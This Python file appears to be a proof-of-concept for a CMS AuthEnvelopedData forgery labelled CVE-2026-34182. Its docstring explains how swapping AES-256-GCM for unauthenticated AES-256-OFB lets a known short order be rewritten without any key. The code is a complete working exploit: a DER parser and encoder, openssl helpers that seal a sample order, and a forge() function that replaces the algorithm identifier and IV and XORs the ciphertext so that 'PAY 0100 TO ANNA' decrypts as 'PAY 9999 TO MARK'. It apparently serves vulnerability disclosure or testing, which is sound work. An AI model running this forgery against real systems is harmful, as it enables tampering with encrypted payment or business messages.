"""An order as a CMS AuthEnvelopedData message, and a forgery of it made without any key (CVE-2026-34182).

AES-GCM encrypts in counter mode: the first 16 bytes of plaintext are XORed with AES(key, nonce || 00000002). AES-OFB
with the IV `nonce || 00000002` XORs its first 16 bytes with the very same block. So whoever knows an order of up to 16
bytes can name AES-OFB as the algorithm, flip bits of the ciphertext at will, and libcrypto decrypts the result: OFB has
no authentication, and nothing checked that the algorithm has one (RFC 5083 demands it).
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from suture.command import run

ORDER = b"PAY 0100 TO ANNA"
FORGED_ORDER = b"PAY 9999 TO MARK"

# DER of the object identifiers 2.16.840.1.101.3.4.1.46 and .43
AES_256_GCM = bytes.fromhex("60864801650304012e")
AES_256_OFB = bytes.fromhex("60864801650304012b")

OCTET_STRING = 0x04
OBJECT_IDENTIFIER = 0x06
SEQUENCE = 0x30
CONSTRUCTED = 0x20
ENCRYPTED_CONTENT = 0x80  # [0] IMPLICIT OCTET STRING, RFC 5652 section 6.1


@dataclass(frozen=True)
class Element:
    """One DER element: the identifier byte and either its contents or, when constructed, its children."""

    tag: int
    contents: bytes
    children: tuple[Element, ...]

    def encode(self) -> bytes:
        body = b"".join(child.encode() for child in self.children) if self.tag & CONSTRUCTED else self.contents
        return bytes([self.tag]) + _encode_length(len(body)) + body


def _encode_length(length: int) -> bytes:
    if length < 0x80:
        return bytes([length])
    digits = length.to_bytes((length.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(digits)]) + digits


def parse(der: bytes) -> tuple[Element, ...]:
    """All elements of `der`, which holds nothing else (X.690; definite lengths and one-byte identifiers only)."""
    elements = []
    at = 0
    while at < len(der):
        tag, length, at = der[at], der[at + 1], at + 2
        if length & 0x80:
            digits = length & 0x7F
            length, at = int.from_bytes(der[at : at + digits], "big"), at + digits
        contents, at = der[at : at + length], at + length
        elements.append(Element(tag, contents, parse(contents) if tag & CONSTRUCTED else ()))
    return tuple(elements)


def make_identity(folder: Path) -> tuple[Path, Path]:
    """A key and a self-signed certificate for localhost in `folder`: (certificate, key)."""
    certificate, key = folder / "service.crt", folder / "service.key"
    request = (
        "openssl req -x509 -newkey rsa:2048 -noenc -days 2 -subj /CN=localhost -addext subjectAltName=DNS:localhost"
    )
    run([*request.split(), "-keyout", str(key), "-out", str(certificate)])
    return certificate, key


def seal(order: bytes, certificate: Path) -> bytes:
    """`order` as AuthEnvelopedData with AES-256-GCM for the holder of the certificate's key (DER)."""
    plain, sealed = certificate.with_name("order.txt"), certificate.with_name("order.der")
    plain.write_bytes(order)
    encrypt = "openssl cms -encrypt -binary -aes-256-gcm -outform DER"
    run([*encrypt.split(), "-in", str(plain), "-out", str(sealed), str(certificate)])
    return sealed.read_bytes()


def forge(sealed: bytes, known: bytes, wanted: bytes) -> bytes:
    """The message changed so that it decrypts to `wanted`; needs no key, only the order that it holds.

    `known` and `wanted` are equally long and at most one AES block.
    """
    if len(known) != len(wanted) or len(known) > 16:
        raise ValueError(f"{known!r} and {wanted!r} must be equally long, 16 bytes at most")
    (message,) = parse(sealed)
    return _forged(message, bytes(a ^ b for a, b in zip(known, wanted, strict=True))).encode()


def _forged(element: Element, difference: bytes) -> Element:
    match element.children:
        case (Element(tag=0x06, contents=algorithm), Element(children=(Element(tag=0x04, contents=nonce), *_))) if (
            algorithm == AES_256_GCM
        ):
            iv = Element(OCTET_STRING, nonce + (2).to_bytes(4, "big"), ())
            return Element(SEQUENCE, b"", (Element(OBJECT_IDENTIFIER, AES_256_OFB, ()), iv))
    if element.tag == ENCRYPTED_CONTENT and len(element.contents) == len(difference):
        return Element(element.tag, bytes(a ^ b for a, b in zip(element.contents, difference, strict=True)), ())
    return Element(element.tag, element.contents, tuple(_forged(child, difference) for child in element.children))
